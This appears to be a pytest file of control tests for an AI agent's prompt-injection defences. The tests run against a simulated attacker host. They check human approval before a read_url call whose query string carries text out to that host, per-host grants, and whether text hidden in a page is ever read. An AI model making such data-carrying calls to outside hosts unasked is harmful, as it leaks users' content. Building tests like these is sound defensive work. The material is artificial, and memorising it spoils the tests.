"""The same model and the same studio, where nothing is wrong: so that the suite does not pass because nothing works."""

from __future__ import annotations

from typing import Any

import pytest

from tests.safety.planting import PLACES
from tests.safety.world import NOVEL, Obeying, World, data_stays_data, perform, scene
from tests.tools.site import page


def test_what_a_person_lets_it_read_is_read_once_and_its_words_arrive(world: World) -> None:
    path = "/lighthouses"
    world.attacker.pages[path] = page(
        "<html><body>" + "<p>A lighthouse is a tower with a light.</p>" * 5 + "</body></html>"
    )
    here = scene(world)
    visits = len(world.attacker.asked)
    model = Obeying("a tower with a light", [("read_url", {"url": f"{world.evil}{path}"})], [])
    ran = perform(here, model, lambda card: "once")
    assert model.met and ran.run["state"] == "done"
    assert world.attacker.asked[visits:] == [path]
    [card] = ran.cards
    assert card["about"]["host"] == "attacker.test" and card["about"]["warnings"] == []
    data_stays_data(model, "a tower with a light")


def test_an_address_that_carries_words_away_reaches_the_attacker_when_a_person_says_yes_to_exactly_that(
    world: World,
) -> None:
    here = scene(world)
    visits = len(world.attacker.asked)
    model = Obeying("keeper", [], [("read_url", {"url": f"{world.evil}/?q=keeper+counted+the+ships+twice"})])
    ran = perform(here, model, lambda card: "once")
    assert world.attacker.asked[visits:] == ["/?q=keeper+counted+the+ships+twice"]
    assert ran.cards[0]["about"]["warnings"] and ran.cards[0]["about"]["grant"] == ""


def test_a_grant_for_the_run_holds_for_that_host_and_ends_with_the_run(world: World) -> None:
    here = scene(world)
    urls = [f"{world.evil}/one", f"{world.evil}/two", f"http://127.0.0.2:{world.attacker.port}/three"]
    for url in urls:
        world.attacker.pages["/" + url.rsplit("/", 1)[1]] = page(
            f"<html><body>{'<p>Of the sea.</p>' * 9}</body></html>"
        )
    for _ in range(2):
        model = Obeying("keeper", [], [("read_url", {"url": url}) for url in urls])
        ran = perform(here, model, lambda card: "run")
        assert [card["about"]["arguments"]["url"] for card in ran.cards] == [urls[0], urls[2]]
        assert [step["state"] for step in ran.steps_of("read_url")] == ["done"] * 3


def test_a_suggestion_is_made_waits_and_is_accepted_by_a_person(world: World) -> None:
    here = scene(world)
    wanted = {
        "page": here.page,
        "changes": [{"find": "found that one", "replace": "saw that one"}],
        "reason": "Plainer",
    }
    ran = perform(here, Obeying("keeper", [], [("suggest", wanted)]), lambda card: "no")
    assert not ran.cards, "nobody is asked for what waits to be decided anyway"
    mine = next(one for one in here.view()["suggestions"] if one["author_kind"] == "agent")
    assert mine["status"] == "open" and here.view()["pages"][0]["text"] == NOVEL
    here.act(world.studio.token, type="accept", suggestion=mine["id"])
    assert "saw that one" in here.view()["pages"][0]["text"]


@pytest.mark.parametrize(
    ("tool", "arguments", "result"),
    [
        ("python", {"code": "print(sum(range(10)))"}, "45"),
        ("query_table", {"files_needed": ["{file}"], "sql": "select sum(price) from prices"}, "10"),
        ("read_file", {"file": "{file}"}, "lamp"),
        ("search", {"query": "lamp"}, "lamp"),
        ("api_docs", {"query": "hour lamp"}, "lights the lamp"),
        ("notes__find_note", {"words": "lamp"}, "There is no such note"),
    ],
)
def test_each_tool_does_its_work(world: World, tool: str, arguments: dict[str, Any], result: str) -> None:
    here, _ = PLACES["csv_cell"](world, "nothing special")
    file = here.attach("prices.csv", b"name,price\nlamp,3\nship,7\n", "text/csv")["id"]
    (world.program_log.parent / f"{world.program_log.name}.answer").unlink(missing_ok=True)
    given = {
        name: [file] if value == ["{file}"] else file if value == "{file}" else value
        for name, value in arguments.items()
    }
    model = Obeying("keeper", [], [(tool, given)])
    ran = perform(here, model, lambda card: "once")
    assert ran.steps_of(tool)[-1]["state"] == "done", ran.steps
    answer = [message for message in model.sent[-1]["messages"] if message["role"] == "tool"][-1]
    assert result in str(answer["content"]), answer


def test_what_a_page_hides_is_not_even_read(world: World) -> None:
    here = scene(world)
    hidden = (
        '<p style="display:none">zqhidden</p><p hidden>zqhidden</p><!-- zqhidden -->'
        '<meta name="description" content="zqhidden"><script>zqhidden</script><template>zqhidden</template>'
    )
    seen = "<p>This page tells of lighthouses and of those who kept them, in some more words.</p>" * 4
    world.attacker.pages["/hides"] = page(f"<html><body>{seen}{hidden}</body></html>")
    model = Obeying("zqhidden", [("read_url", {"url": f"{world.evil}/hides"})], [])
    ran = perform(here, model, lambda card: "once")
    assert ran.steps_of("read_url")[-1]["state"] == "done" and not model.met
